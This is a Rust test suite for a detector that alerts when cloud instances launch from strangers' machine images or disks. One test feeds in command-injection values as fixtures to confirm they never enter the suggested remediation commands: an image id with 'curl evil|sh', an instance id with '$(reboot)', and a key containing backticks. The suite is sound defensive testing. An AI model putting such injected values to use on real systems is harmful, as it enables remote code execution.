use super::*;
use crate::activity::{ActorKind, ImageRef, Instance, TemplateRef};
use crate::detection::testing::*;
use crate::lookup::{Fact, FactKey, FactValue, InstanceFact};
use crate::policy::Policy;

fn judged(given: &Given, launch: Launch, policy: &Policy) -> Verdict {
    given.judge(&DETECTION, &launched(launch), policy)
}

#[test]
fn a_strangers_public_image_fires() {
    let mut fact = image(AMI, STRANGER);
    fact.public = Some(true);
    let given = Given::none().image(fact).allowed_images(Fact::Absent);
    let found = matched(judged(&given, launch(AMI), &Policy::default()));
    assert_eq!(found.subject, Subject::MachineImage { image: AMI.to_owned(), principal: ROLE.to_owned() });
    assert!(found.summary.contains(STRANGER) && found.summary.contains("public"), "{}", found.summary);
    assert_eq!(found.evidence["instances"], serde_json::json!([INSTANCE]));
    let commands: Vec<&str> = found.next_steps.iter().filter_map(|step| step.command.as_deref()).collect();
    assert!(
        commands.contains(&"aws ec2 stop-instances --region eu-central-1 --instance-ids i-0123456789abcdef0"),
        "{commands:?}"
    );
    assert!(commands[0].ends_with(AMI));
}

/// The published launch rule fires on every launch.
#[test]
fn own_and_amazons_images_pass() {
    for owner in [ACCOUNT, AMAZON] {
        let given = Given::none().image(image(AMI, owner));
        let why = passed(judged(&given, launch(AMI), &Policy::default()));
        assert!(why.contains(owner), "{why}");
    }
}

#[test]
fn an_alias_proves_nothing() {
    let mut fact = image(AMI, STRANGER);
    fact.image_owner_alias = Some("amazon".to_owned());
    fact.name = Some("al2023-ami-2023.9.20260101.0-kernel-6.1-x86_64".to_owned());
    let given = Given::none().image(fact).allowed_images(Fact::Absent);
    matched(judged(&given, launch(AMI), &Policy::default()));
}

#[test]
fn the_facts_are_asked_for_one_after_the_other() {
    let policy = Policy::default();
    let keys = needed(judged(&Given::none(), launch(AMI), &policy));
    assert_eq!(keys, [FactKey::Image { scope: scope(REGION), image: AMI.to_owned() }]);
    let given = Given::none().image(image(AMI, STRANGER));
    let keys = needed(judged(&given, launch(AMI), &policy));
    assert_eq!(keys, [FactKey::AllowedImages { scope: scope(REGION) }]);
}

#[test]
fn a_listed_id_needs_no_look_up() {
    let policy = policy(&format!("images: {{approved: {{owners: [], ids: [{AMI}]}}, max_age_days: 1}}"));
    passed(judged(&Given::none(), launch(AMI), &policy));
}

#[test]
fn attempts_dry_runs_and_other_activities_are_not_judged_here() {
    let policy = Policy::default();
    for outcome in [LaunchOutcome::Attempted("UnauthorizedOperation".to_owned()), LaunchOutcome::DryRun] {
        not_applicable(judged(&Given::none(), Launch { outcome, ..launch(AMI) }, &policy));
    }
    not_applicable(Given::none().judge(&DETECTION, &pushed(push()), &policy));
}

#[test]
fn a_private_image_is_told_by_its_instances_metadata() {
    let given = Given::none().no_image(AMI, Fact::Absent);
    let keys = needed(judged(&given, launch(AMI), &Policy::default()));
    assert_eq!(keys, [FactKey::InstanceImage { scope: scope(REGION), instance: INSTANCE.to_owned() }]);
    let known = Fact::Known(FactValue::Image(Box::new(image(AMI, AMAZON))));
    passed(judged(&given.instance_image(INSTANCE, known), launch(AMI), &Policy::default()));
}

#[test]
fn nothing_is_assumed_clean_when_nobody_knows_the_image() {
    let given = Given::none().no_image(AMI, Fact::Absent).instance_image(INSTANCE, Fact::Absent);
    let reason = cannot_tell(judged(&given, launch(AMI), &Policy::default()));
    assert_eq!(reason.code, "image-not-found");
    let given = Given::none().no_image(AMI, denied()).instance_image(INSTANCE, denied());
    let reason = cannot_tell(judged(&given, launch(AMI), &Policy::default()));
    assert_eq!(reason.code, "image-lookup-denied");
    assert!(DETECTION.approval, "that it cannot tell must be an alert");
}

#[test]
fn a_launch_without_response_is_found_by_its_client_token() {
    let launch = Launch {
        image: ImageRef::SsmParameter("/aws/service/ami".to_owned()),
        instances: Vec::new(),
        response_omitted: true,
        client_token: Some("token-1".to_owned()),
        ..launch(AMI)
    };
    let policy = Policy::default();
    let key = FactKey::Launched { scope: scope(REGION), client_token: "token-1".to_owned() };
    assert_eq!(needed(judged(&Given::none(), launch.clone(), &policy)), std::slice::from_ref(&key));
    let started = InstanceFact {
        instance_id: INSTANCE.to_owned(),
        image_id: Some(AMI.to_owned()),
        ..InstanceFact::default()
    };
    let known = Fact::Known(FactValue::Instances(vec![started]));
    let given =
        Given::none().fact(key.clone(), known).image(image(AMI, STRANGER)).allowed_images(Fact::Absent);
    let found = matched(judged(&given, launch.clone(), &policy));
    assert!(matches!(found.subject, Subject::MachineImage { image, .. } if image == AMI));
    let reason = cannot_tell(judged(&Given::none().fact(key, Fact::Absent), launch, &policy));
    assert_eq!(reason.code, "image-not-named");
}

#[test]
fn a_launch_that_names_only_a_template_is_told_by_it() {
    let template =
        TemplateRef { id: Some("lt-0123456789".to_owned()), name: None, version: Some("7".to_owned()) };
    let launch = Launch { image: ImageRef::Template(template.clone()), instances: Vec::new(), ..launch(AMI) };
    let key = FactKey::Template { scope: scope(REGION), template };
    let policy = Policy::default();
    assert_eq!(needed(judged(&Given::none(), launch.clone(), &policy)), std::slice::from_ref(&key));
    let known = crate::lookup::TemplateFact { image_id: Some(AMI.to_owned()), ..Default::default() };
    let given =
        Given::none().fact(key.clone(), Fact::Known(FactValue::Template(known))).image(image(AMI, AMAZON));
    passed(judged(&given, launch.clone(), &policy));
    let reason = cannot_tell(judged(&Given::none().fact(key, denied()), launch, &policy));
    assert_eq!(reason.code, "template-lookup-denied");
}

#[test]
fn an_event_that_names_nothing_cannot_be_told() {
    let launch = Launch { image: ImageRef::Unknown, instances: Vec::new(), ..launch(AMI) };
    assert_eq!(cannot_tell(judged(&Given::none(), launch, &Policy::default())).code, "image-not-named");
}

#[test]
fn auto_scaling_is_judged_like_anybody_else() {
    let mut event = launched(launch(AMI));
    if let Some(actor) = &mut event.actor {
        actor.kind = ActorKind::ServiceLinkedRole;
        actor.invoked_by = Some("autoscaling.amazonaws.com".to_owned());
    }
    let given = Given::none().image(image(AMI, STRANGER)).allowed_images(Fact::Absent);
    matched(given.judge(&DETECTION, &event, &Policy::default()));
}

#[test]
fn an_attackers_words_never_enter_a_command() {
    let evil = "ami-0;curl evil|sh";
    let launch = Launch {
        instances: vec![Instance { id: "i-$(reboot)".to_owned(), ..Instance::default() }],
        ..launch(evil)
    };
    let given = Given::none().image(image(evil, STRANGER)).allowed_images(Fact::Absent);
    let mut event = launched(launch);
    if let Some(actor) = &mut event.actor {
        actor.access_key_id = Some("AKIA`id`AAAAAAAAAAAA".to_owned());
    }
    let found = matched(given.judge(&DETECTION, &event, &Policy::default()));
    assert!(found.next_steps.iter().all(|step| step.command.is_none()), "{:?}", found.next_steps);
}

/// The instance runs something else from then on, though it was launched from an approved image.
#[test]
fn a_root_volume_replaced_by_a_strangers_snapshot_is_a_launch_of_it() {
    let snapshot = "snap-0aaaaaaaaaaaaaaaa";
    let event = launched(Launch { image: ImageRef::Disk(snapshot.to_owned()), ..launch(AMI) });
    let judge = |given: Given| given.judge(&DETECTION, &event, &Policy::default());
    assert_eq!(needed(judge(Given::none())).len(), 1);
    let found = matched(judge(Given::none().snapshot(snapshot, STRANGER)));
    assert!(found.summary.contains(INSTANCE) && found.summary.contains(STRANGER), "{}", found.summary);
    passed(judge(Given::none().snapshot(snapshot, ACCOUNT)));
}

#[test]
fn a_strangers_disk_attached_as_the_root_is_told_when_attached_and_when_started() {
    use crate::activity::{Attachment, DiskMade, Origin};
    let theirs = "snap-0aaaaaaaaaaaaaaaa";
    let volume = "vol-0aaaaaaaaaaaaaaaa";
    let attach = |device: &str| {
        activity(Action::VolumeAttached(Attachment {
            volume: volume.to_owned(),
            instance: INSTANCE.to_owned(),
            device: device.to_owned(),
            failed: None,
        }))
    };
    let mut story = Story::watched();
    let made = DiskMade { id: volume.to_owned(), origin: Origin::Snapshot(theirs.to_owned()) };
    story.tell(&later("e1", -9, activity(Action::DiskMade(made))));
    let given = Given::none().snapshot(theirs, STRANGER);
    let judge = |story: &Story, event: &Activity, given: &Given| {
        story.judge(&DETECTION, event, &Policy::default(), given.facts())
    };
    matched(judge(&story, &attach("/dev/xvda"), &given));
    not_applicable(judge(&story, &attach("/dev/sdf"), &given));
    passed(judge(&story, &attach("/dev/sda1"), &Given::none().snapshot(theirs, ACCOUNT)));
    let start = activity(Action::InstanceStarted(InstanceChange {
        instances: vec![INSTANCE.to_owned()],
        failed: None,
    }));
    passed(judge(&story, &start, &given));
    story.tell(&later("e2", -5, attach("/dev/xvda")));
    let found = matched(judge(&story, &start, &given));
    assert_eq!(found.evidence["source_snapshot"], theirs);
}
